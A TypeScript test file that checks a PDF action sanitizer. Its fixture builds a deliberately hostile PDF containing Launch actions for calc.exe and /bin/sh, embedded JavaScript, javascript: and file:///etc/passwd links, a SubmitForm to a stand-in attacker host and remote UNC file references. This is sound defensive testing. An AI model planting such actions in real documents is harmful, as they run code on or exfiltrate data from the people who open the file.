import { execFileSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { PDFDocument, PDFHexString, type PDFPage, PDFString } from 'pdf-lib';
import { describe, expect, it } from 'vitest';
import { pdfDestinationName } from '../../src/pdf/destination-names.js';
import { finishPdf } from '../../src/pdf/finish-pdf.js';
import { sanitizeActions } from '../../src/pdf/sanitize-actions.js';

type Json = string | number | boolean | null | Json[] | { [key: string]: Json };

function saved(bytes: Uint8Array): string {
  const file = path.join(mkdtempSync(path.join(os.tmpdir(), 'bp-actions-')), 'out.pdf');
  writeFileSync(file, bytes);
  return file;
}

/** Every dictionary of every object of a PDF, as `qpdf --json` (version 2) reads the file; a qpdf warning throws. */
function qpdfDicts(bytes: Uint8Array): Record<string, Json>[] {
  const file = saved(bytes);
  const json = JSON.parse(execFileSync('qpdf', ['--json', file], { encoding: 'utf8', maxBuffer: 64 << 20 })) as { qpdf: [unknown, Record<string, Json>] };
  const dicts: Record<string, Json>[] = [];
  const visit = (value: Json) => {
    if (Array.isArray(value)) value.forEach(visit);
    else if (value && typeof value === 'object') {
      dicts.push(value);
      Object.values(value).forEach(visit);
    }
  };
  for (const [key, object] of Object.entries(json.qpdf[1])) if (key.startsWith('obj:')) visit(object);
  return dicts;
}

/** What a viewer could still do with the PDF: its links, and anything that runs or opens something. */
function whatRemains(bytes: Uint8Array) {
  const dicts = qpdfDicts(bytes);
  const ofType = (type: string) => dicts.filter((d) => d['/S'] === type);
  return {
    uris: ofType('/URI').map((d) => d['/URI']),
    remoteGoTos: ofType('/GoToR').map((d) => [d['/F'], d['/D']]),
    goTos: ofType('/GoTo').length,
    dangerous: dicts.flatMap((d) => [
      ...['/AA', '/JS', '/OpenAction', '/JavaScript', '/XFA'].filter((key) => key in d),
      ...[d['/S'], d['/Subtype']].filter((v) => typeof v === 'string' && /^\/(Launch|JavaScript|SubmitForm|ImportData|RichMedia\w*|Rendition)$/.test(v)),
    ]),
  };
}

/** One link annotation per action, at the page's foot, the way Chromium writes them. */
function addLinks(pdf: PDFDocument, page: PDFPage, actions: object[]): void {
  const c = pdf.context;
  const refs = actions.map((action, i) =>
    c.register(c.obj({ Type: 'Annot', Subtype: 'Link', Rect: [10 * i, 0, 10 * i + 8, 8], Border: [0, 0, 0], ...action })),
  );
  page.node.set(c.obj('Annots') as never, c.obj(refs));
}

async function hostilePdf(): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage([300, 300]);
  const c = pdf.context;
  const js = (code: string) => ({ S: 'JavaScript', JS: PDFString.of(code) });
  addLinks(pdf, page, [
    { A: { S: 'Launch', F: PDFString.of('calc.exe') } },
    { A: js('app.alert(1)') },
    { A: { S: 'URI', URI: PDFString.of('javascript:app.alert(2)') } },
    { A: { S: 'URI', URI: PDFHexString.fromText('JavaScript:app.alert(3)') } },
    { A: { S: 'URI', URI: PDFString.of('file:///etc/passwd') } },
    { A: { S: 'URI', URI: PDFString.of('data.csv') } },
    { A: { S: 'URI', URI: PDFString.of('https://example.org/guide') } },
    { A: { S: 'URI', URI: PDFString.of('mailto:desk@example.org') } },
    { A: { S: 'URI', URI: PDFString.of('http://example.org/'), Next: js('app.alert(4)') } },
    { A: { S: 'GoToR', F: PDFString.of('language-line.pdf'), D: PDFString.of('steps') } },
    { A: { S: 'GoToR', F: PDFHexString.fromText('\\\\attacker\\share\\x.pdf'), D: [0, 'Fit'] } },
    { A: { S: 'GoToR', F: { FS: 'URL', F: PDFString.of('http://attacker/x.pdf') }, D: [0, 'Fit'] } },
    { A: { S: 'GoTo', D: [page.ref, 'Fit'] }, AA: { E: js('app.alert(5)') } },
    { A: { S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of('http://attacker/collect') } } },
    { A: { S: 'ImportData', F: PDFString.of('data.fdf') } },
    { A: c.register(c.obj({ S: 'Launch', F: PDFString.of('/bin/sh') })) },
  ]);
  const annots = page.node.Annots();
  annots?.push(c.register(c.obj({ Type: 'Annot', Subtype: 'RichMedia', Rect: [0, 20, 100, 120] })));
  page.node.set(c.obj('AA') as never, c.obj({ O: js('app.alert(6)') }));
  pdf.catalog.set(c.obj('OpenAction') as never, c.obj(js('app.alert(7)')));
  pdf.catalog.set(c.obj('AA') as never, c.obj({ WC: js('app.alert(8)') }));
  pdf.catalog.set(c.obj('Names') as never, c.obj({ JavaScript: { Names: [PDFString.of('init'), c.register(c.obj(js('app.alert(9)')))] } }));
  const outlines = c.nextRef();
  const item = c.register(c.obj({ Title: PDFString.of('Run me'), Parent: outlines, A: { S: 'Launch', F: PDFString.of('calc.exe') } }));
  c.assign(outlines, c.obj({ Type: 'Outlines', First: item, Last: item, Count: 1 }));
  pdf.catalog.set(c.obj('Outlines') as never, outlines);
  return pdf.save({ useObjectStreams: false });
}

describe('sanitizeActions (#9)', () => {
  it('keeps web, mail and sibling-PDF links and removes everything that runs, launches or reaches elsewhere', async () => {
    const before = whatRemains(await hostilePdf());
    // The fixture really holds what it claims to (else the test below could not fail).
    expect(before.dangerous.length).toBeGreaterThanOrEqual(15);
    expect(before.uris).toHaveLength(7);

    const pdf = await PDFDocument.load(await hostilePdf());
    const { removed } = sanitizeActions(pdf);
    const after = whatRemains(await pdf.save({ useObjectStreams: false }));

    expect(after.dangerous).toEqual([]);
    expect(after.uris).toEqual(['u:https://example.org/guide', 'u:mailto:desk@example.org', 'u:http://example.org/']);
    expect(after.remoteGoTos).toEqual([['u:language-line.pdf', 'u:steps']]);
    expect(after.goTos).toBe(1);
    expect(pdf.getPage(0).node.Annots()?.size()).toBe(16);
    expect(removed.sort()).toEqual(
      [
        'page 1: RichMedia annotation',
        'document: scripts run on opening (/Names /JavaScript)',
        'document: JavaScript action (/OpenAction)',
        'document: actions run on opening, printing or hovering (/AA)',
        'page 1: actions run on opening, printing or hovering (/AA)',
        'page 1 link: Launch action',
        'page 1 link: JavaScript action',
        'page 1 link: link to "javascript:app.alert(2)" (only http:, https: and mailto: links are kept)',
        'page 1 link: link to "JavaScript:app.alert(3)" (only http:, https: and mailto: links are kept)',
        'page 1 link: link to "file:///etc/passwd" (only http:, https: and mailto: links are kept)',
        'page 1 link: link to "data.csv" (only http:, https: and mailto: links are kept)',
        'page 1 link: JavaScript action (/Next)',
        'page 1 link: link to "\\\\attacker\\share\\x.pdf" (only PDFs beside this one are kept)',
        'page 1 link: link to "?" (only PDFs beside this one are kept)',
        'page 1 link: actions run on opening, printing or hovering (/AA)',
        'page 1 link: SubmitForm action',
        'page 1 link: ImportData action',
        'page 1 link: Launch action',
        'bookmark "Run me": Launch action',
      ].sort(),
    );
    expect(execFileSync('qpdf', ['--check', saved(await pdf.save())], { encoding: 'utf8' })).toContain('No syntax or stream encoding errors');
  });

  it('leaves a clean PDF as it was', async () => {
    const pdf = await PDFDocument.create();
    const page = pdf.addPage([300, 300]);
    addLinks(pdf, page, [{ A: { S: 'URI', URI: PDFString.of('https://example.org/') } }, { Dest: [page.ref, 'Fit'] }]);
    const bytes = await pdf.save({ useObjectStreams: false });
    const loaded = await PDFDocument.load(bytes);
    expect(sanitizeActions(loaded).removed).toEqual([]);
    expect(whatRemains(await loaded.save({ useObjectStreams: false }))).toEqual(whatRemains(bytes));
  });
});

describe('finishPdf links to local files (#9)', () => {
  it('points links to built documents and PDFs at the sibling PDF, and drops links to other files', async () => {
    const root = mkdtempSync(path.join(os.tmpdir(), 'bp-staging-'));
    const document = path.join(root, 'springfield/en/welcome-desk.html');
    const url = (file: string) => pathToFileURL(path.join(root, file)).href;
    const pdf = await PDFDocument.create();
    const page = pdf.addPage([300, 300]);
    addLinks(
      pdf,
      page,
      [
        `${url('springfield/en/language-line.html')}#steps-to-open`,
        url('springfield/es/welcome-desk.html'),
        url('springfield/en/handout.pdf'),
        url('springfield/en/assets/data.csv'),
        'file:///etc/passwd',
      ].map((uri) => ({ A: { S: 'URI', URI: PDFString.of(uri) } })),
    );
    const reports: string[][] = [];
    const meta = {
      title: 'Welcome Desk',
      author: 'Springfield',
      subject: 'A front door',
      keywords: [],
      lang: 'en',
      date: new Date('2024-01-01T00:00:00Z'),
      idSeed: 'x',
    };
    const finished = await finishPdf(await pdf.save(), { ...meta, printedFrom: { root, document } }, { onRemoved: (removed) => reports.push(removed) });
    const after = whatRemains(finished);
    expect(after.dangerous).toEqual([]);
    expect(after.uris).toEqual([]);
    expect(after.remoteGoTos).toEqual([
      // #10: the other guide's destination is named by the hash of the heading's id.
      ['u:language-line.pdf', `u:${pdfDestinationName('steps-to-open')}`],
      ['u:../es/welcome-desk.pdf', [0, '/Fit']],
      ['u:handout.pdf', [0, '/Fit']],
    ]);
    expect(reports).toEqual([
      [
        'page 1 link: to "assets/data.csv", a local file that is not a PDF',
        'page 1 link: link to "file:///etc/passwd" (only http:, https: and mailto: links are kept)',
      ],
    ]);
    // No action at all is written any more for a local file: Chromium's absolute staging path is gone too.
    expect(Buffer.from(finished).toString('latin1')).not.toContain(root);
  });
});
